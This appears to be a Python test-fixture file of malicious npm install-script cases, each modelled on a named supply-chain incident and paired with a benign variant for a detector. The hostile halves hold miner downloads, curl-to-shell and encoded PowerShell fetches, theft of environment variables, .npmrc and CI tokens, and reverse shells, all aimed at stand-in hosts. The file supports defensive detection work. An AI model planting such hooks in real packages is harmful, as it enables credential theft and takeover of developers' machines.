"""What package.json has npm run at install: miners, beacons, shells, and programs that are fetched and started."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

INSTALL_SCRIPTS = (
    Attack("ua-parser-js: a miner fetched by a shell script", "FETCH-001", "install", {
        "package.json": '"scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}',
        "preinstall.js": """
            const { exec, spawn } = require("child_process");
            const system = process.platform;
            if (system === "linux") {
              exec("/bin/bash preinstall.sh", (error, out) => { if (error) return; console.log(out); });
            } else if (system === "win32") {
              spawn("cmd.exe", ["/c", "preinstall.bat"]);
            }
        """,
        "preinstall.sh": """
            COUNTRY=$(curl -k https://geo.example.invalid/xml/ | grep 'RU\\|UA\\|BY')
            if [ -z "$COUNTRY" ]; then
              curl http://example.invalid/download/extension -o extension
              chmod +x extension
              ./extension -k --tls --rig-id q -o pool.example.invalid:443 -u FAKEWALLET --donate-level=1 --background &>/dev/null &
            fi
        """,
        "preinstall.bat": """
            @echo off
            curl http://example.invalid/download/extension.exe -o extension.exe
            start /B extension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u FAKEWALLET --donate-level=3
        """,
    }, {
        "preinstall.sh": """
            node --version
            echo "thank you for installing"
        """,
        "preinstall.bat": """
            @echo off
            node --version
        """,
    }),
    Attack("coa and rc: a batch file that fetches a library and registers it", "FETCH-001", "install", {
        "package.json": '"scripts": {"preinstall": "start /B node compile.js & node compile.js"}',
        "compile.js": """
            const { spawn } = require("child_process");
            if (process.platform === "win32") spawn("cmd.exe", ["/c", "compile.bat"]);
        """,
        "compile.bat": """
            @echo off
            curl https://example.invalid/win/sdd.dll -o compile.dll
            if not exist compile.dll (
              wget https://example.invalid/win/sdd.dll -O compile.dll
            )
            regsvr32.exe -s compile.dll
        """,
    }, {
        "compile.bat": """
            @echo off
            node-gyp rebuild
        """,
    }),
    Attack("crossenv: the environment by POST", "EXFIL-001", "install", {
        "package.json": '"scripts": {"postinstall": "node package-setup.js"}',
        "package-setup.js": """
            const http = require("http");
            const querystring = require("querystring");
            const data = Buffer.from(JSON.stringify(process.env)).toString("base64");
            const body = querystring.stringify({ data });
            const request = http.request({
              hostname: "npm.example.invalid", port: 80, path: "/log/", method: "POST",
              headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": Buffer.byteLength(body) },
            });
            request.write(body);
            request.end();
        """,
    }, {
        "package-setup.js": """
            const fs = require("fs");
            const querystring = require("querystring");
            const data = Buffer.from(JSON.stringify({ ci: process.env.CI || "", node: process.version })).toString("base64");
            fs.writeFileSync("setup.json", querystring.stringify({ data }));
        """,
    }),
    Attack("eslint-scope: a paste that is fetched and evaluated", "FETCH-001", "install", {
        "package.json": '"scripts": {"postinstall": "node ./lib/build.js"}',
        "lib/build.js": """
            const https = require("https");
            const options = { hostname: "paste.example.invalid", path: "/raw/made-up", headers: { "User-Agent": "Mozilla/5.0", Accept: "text/html" } };
            try {
              https.get(options, (answer) => {
                answer.setEncoding("utf8");
                answer.on("data", (text) => eval(text));
                answer.on("error", () => {});
              }).on("error", () => {});
            } catch (error) {}
        """,
    }, {
        "lib/build.js": """
            var fs = require("fs");
            fs.createReadStream("lib/table.json").on("data", (c) => { JSON.parse(c); }).on("error", () => {});
        """,
    }),
    Attack("eslint-scope, second stage: the tokens of .npmrc in a header", "STEAL-001", "install", {
        "package.json": '"scripts": {"postinstall": "node lib/stage.js"}',
        "lib/stage.js": """
            const fs = require("fs");
            const http = require("http");
            const { join } = require("path");
            const home = process.env.HOME || process.env.USERPROFILE;
            let token = "none";
            try {
              token = fs.readFileSync(join(home, ".npmrc"), "utf8").replace("//registry.example/:_authToken=", "").trim();
            } catch (error) {}
            http.get({ hostname: "counter.example.invalid", path: "/c.php", headers: { Referer: "http://1.example.invalid/" + token } }, () => {}).on("error", () => {});
        """,
    }, {
        "lib/stage.js": """
            var path = require("path");
            var fs = require("fs");
            var settings = path.join(process.env.HOME || process.env.USERPROFILE, ".demorc");
            if (fs.existsSync(settings)) console.log(fs.readFileSync(settings, { encoding: "utf8" }).trim());
        """,
    }),
    Attack("dependency confusion: who has installed it, by HTTPS", "EXFIL-001", "install", {
        "package.json": '"scripts": {"preinstall": "node index.js > /dev/null 2>&1"}',
        "index.js": """
            const os = require("os");
            const dns = require("dns");
            const https = require("https");
            const packageJSON = require("./package.json");
            const trackingData = JSON.stringify({
              p: packageJSON.name, c: __dirname, hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username,
              dns: dns.getServers(), r: packageJSON.___resolved, pjson: packageJSON,
            });
            const req = https.request({ hostname: "beacon.example.invalid", port: 443, path: "/", method: "POST",
              headers: { "Content-Type": "application/json", "Content-Length": trackingData.length } }, (res) => { res.on("data", () => {}); });
            req.on("error", () => {});
            req.write(trackingData);
            req.end();
        """,
    }, {
        "index.js": """
            const os = require("os");
            const packageJSON = require("./package.json");
            if (os.platform() === "aix") console.error(packageJSON.name + " was not tested on " + os.platform() + " " + os.release());
        """,
    }),
    Attack("dependency confusion: host and user in labels of DNS", "EXFIL-001", "install", {
        "package.json": '"scripts": {"preinstall": "node ping.js"}',
        "ping.js": """
            const os = require("os");
            const dns = require("dns");
            const told = Buffer.from(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: process.cwd() })).toString("hex");
            for (let at = 0; at < told.length; at += 60) dns.resolve4(told.slice(at, at + 60) + ".a.example.invalid", () => {});
        """,
    }, {
        "ping.js": """
            const os = require("os");
            const told = Buffer.from(JSON.stringify({ h: os.arch(), d: "demo" })).toString("hex");
            for (let at = 0; at < told.length; at += 60) console.log(told.slice(at, at + 60));
        """,
    }),
    Attack("dependency confusion: a curl of host and user on the line itself", "EXFIL-001", "install", {
        "package.json": """
            "scripts": {"preinstall": "curl -s -X POST -d \\"h=$(hostname)&u=$(whoami)&p=$(pwd)\\" https://beacon.example.invalid/x"}
        """,
    }, {
        "package.json": '"scripts": {"preinstall": "echo installing on $(uname)"}',
    }),
    Attack("a typosquat: curl piped to a shell before install", "FETCH-001", "install", {
        "package.json": '"scripts": {"preinstall": "curl -fsSL https://example.invalid/i.sh | sh"}, "main": "index.js"',
        "index.js": "module.exports = require('path');",
    }, {
        "package.json": '"scripts": {"preinstall": "npx only-allow pnpm"}, "main": "index.js"',
    }),
    Attack("an encoded command for PowerShell", "FETCH-001", "install", {
        "package.json": """
            "scripts": {"postinstall": "powershell -NoP -W Hidden -Enc «utf16:IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')»"}
        """,
    }, {
        "package.json": '"scripts": {"postinstall": "powershell -NoP -Command \\"Write-Host thank you\\""}',
    }),
    Attack("a program in node -e", "EXFIL-001", "install", {
        "package.json": """
            "scripts": {"postinstall": "node -e \\"const h=require('https');const r=h.request('https://example.invalid/c',{method:'POST'});r.end(JSON.stringify(process.env))\\""}
        """,
    }, {
        "package.json": """
            "scripts": {"postinstall": "node -e \\"try{require('./postinstall')}catch(e){}\\""}
        """,
        "postinstall.js": "console.log('thank you for using demo');",
    }),
    Attack("twilio-npm: bash that connects to a listener", "SHELL-001", "install", {
        "package.json": '"scripts": {"postinstall": "/bin/bash -c \'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\'"}',
    }, {
        "package.json": '"scripts": {"postinstall": "/bin/bash -c \'echo ready >&2\'"}',
    }),
    Attack("a shell of node's own over a socket", "SHELL-001", "install", {
        "package.json": '"scripts": {"install": "node connect.js"}',
        "connect.js": """
            (function () {
              var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
              var client = new net.Socket();
              client.connect(4444, "127.0.0.1", function () {
                client.pipe(sh.stdin);
                sh.stdout.pipe(client);
                sh.stderr.pipe(client);
              });
              return /a/;
            })();
        """,
    }, {
        "connect.js": """
            var cp = require("child_process"), sh = cp.spawn("node-gyp", ["rebuild"]);
            sh.stdout.pipe(process.stdout);
            sh.stderr.pipe(process.stderr);
        """,
    }),
    Attack("rspack and vant: a miner from an archive, started out of sight", "MINE-001", "install", {
        "package.json": '"scripts": {"postinstall": "node dist/util/support.js"}',
        "dist/util/support.js": """
            const { execSync, spawn } = require("child_process");
            const fs = require("fs"), os = require("os"), path = require("path");
            const target = path.join(os.tmpdir(), ".vant_helper");
            execSync(`curl -sL https://example.invalid/xmrig-6.22.2-linux-static-x64.tar.gz -o ${target}.tar.gz && tar -xzf ${target}.tar.gz -C ${os.tmpdir()}`);
            fs.chmodSync(target, 0o755);
            spawn(target, ["-o", "stratum+tcp://pool.example.invalid:3333", "-u", "FAKEWALLET", "-p", "x", "-B"], { detached: true, stdio: "ignore", windowsHide: true }).unref();
        """,
    }, {
        "dist/util/support.js": """
            const { spawn } = require("child_process");
            const path = require("path");
            spawn(process.execPath, [path.join(__dirname, "notice.js")], { detached: true, stdio: "ignore" }).unref();
        """,
        "dist/util/notice.js": "console.log('support us');",
    }),
    Attack("eslint-config-prettier: a library of its own started by rundll32", "POST-001", "install", {
        "package.json": '"scripts": {"install": "node install.js"}',
        "install.js": """
            const os = require("os");
            const path = require("path");
            const { spawn } = require("child_process");
            function logDiskSpace() {
              if (os.platform() === "win32") {
                const name = "chi" + "ld_pro" + "cess";
                require(name)["sp" + "awn"]("rund" + "ll32", [path.join(__dirname, "./node-gyp" + ".dll") + ",main"]);
              }
            }
            logDiskSpace();
        """,
        "node-gyp.dll": "MZ made up",
    }, {
        "install.js": """
            const os = require("os");
            const { spawn } = require("child_process");
            if (os.platform() === "win32") spawn("node-gyp", ["rebuild"], { stdio: "inherit" });
        """,
    }),
    Attack("discord.dll and its like: a program from a chat's file store", "FETCH-001", "install", {
        "package.json": '"scripts": {"postinstall": "node postinstall.js"}',
        "postinstall.js": """
            const https = require("https"), fs = require("fs"), path = require("path"), os = require("os");
            const { exec } = require("child_process");
            const target = path.join(os.tmpdir(), "runtime.exe");
            const file = fs.createWriteStream(target);
            https.get("https://cdn.example.invalid/attachments/1/2/runtime.exe", (response) => {
              response.pipe(file);
              file.on("finish", () => { file.close(); exec(`start "" "${target}"`); });
            });
        """,
    }, {
        "postinstall.js": """
            const fs = require("fs"), path = require("path"), os = require("os");
            const target = path.join(os.tmpdir(), "runtime.txt");
            const file = fs.createWriteStream(target);
            fs.createReadStream("README.md").pipe(file);
            file.on("finish", () => { file.close(); });
        """,
        "README.md": "# demo",
    }),
    Attack("bb-builder: a program of its own that sends what it finds", "POST-001", "install", {
        "package.json": '"scripts": {"install": "updater.exe"}, "main": "index.js"',
        "index.js": "module.exports = 1;",
        "updater.exe": "MZ made up",
    }, {
        "package.json": '"scripts": {"install": "node-gyp-build"}, "main": "index.js"',
        "updater.exe": "",
    }, unseen="what a native program does cannot be read; that one is started at install is a capability"),
    Attack("PhantomRaven: a dependency by address that no registry holds", "POST-001", "install", {
        "package.json": '"main": "index.js", "dependencies": {"ui-styles": "http://packages.example.invalid/npm/unused-imports"}',
        "index.js": "console.log('Hello, world!');",
    }, {
        "package.json": '"main": "index.js", "dependencies": {"ui-styles": "^1.0.0"}',
    }, unseen="a dependency by address is a source, not a behaviour: its code is not here"),
    Attack("PhantomRaven, what is fetched: mail addresses and tokens of pipelines", "EXFIL-001", "install", {
        "package.json": '"scripts": {"preinstall": "node preinstall.js"}',
        "preinstall.js": """
            const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
            const { execSync } = require("child_process");
            const found = { host: os.hostname(), user: os.userInfo().username, node: process.version };
            try { found.email = execSync("git config --get user.email").toString().trim(); } catch {}
            try { found.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch {}
            found.tokens = [process.env.GITHUB_TOKEN, process.env.CI_JOB_TOKEN, process.env.CIRCLE_TOKEN, process.env.NPM_TOKEN];
            https.get("https://packages.example.invalid/jpd.php?" + new URLSearchParams(found).toString());
            const request = https.request({ host: "packages.example.invalid", path: "/jpd1.php", method: "POST" });
            request.write(JSON.stringify(found));
            request.end();
        """,
    }, {
        "preinstall.js": """
            const { execSync } = require("child_process");
            const found = { ci: Boolean(process.env.CI), node: process.version };
            try { found.git = execSync("git --version").toString().trim(); } catch {}
            console.log(JSON.stringify(found));
        """,
    }),
    Attack("after Cline: a tool installed for all users, from an address", "FETCH-001", "install", {
        "package.json": '"scripts": {"postinstall": "npm install -g https://example.invalid/openpaw.tgz"}, "bin": {"demo": "cli.js"}',
        "cli.js": "#!/usr/bin/env node\nconsole.log('demo');",
    }, {
        "package.json": '"scripts": {"postinstall": "npm run build --if-present"}, "bin": {"demo": "cli.js"}',
    }),
)  # fmt: skip
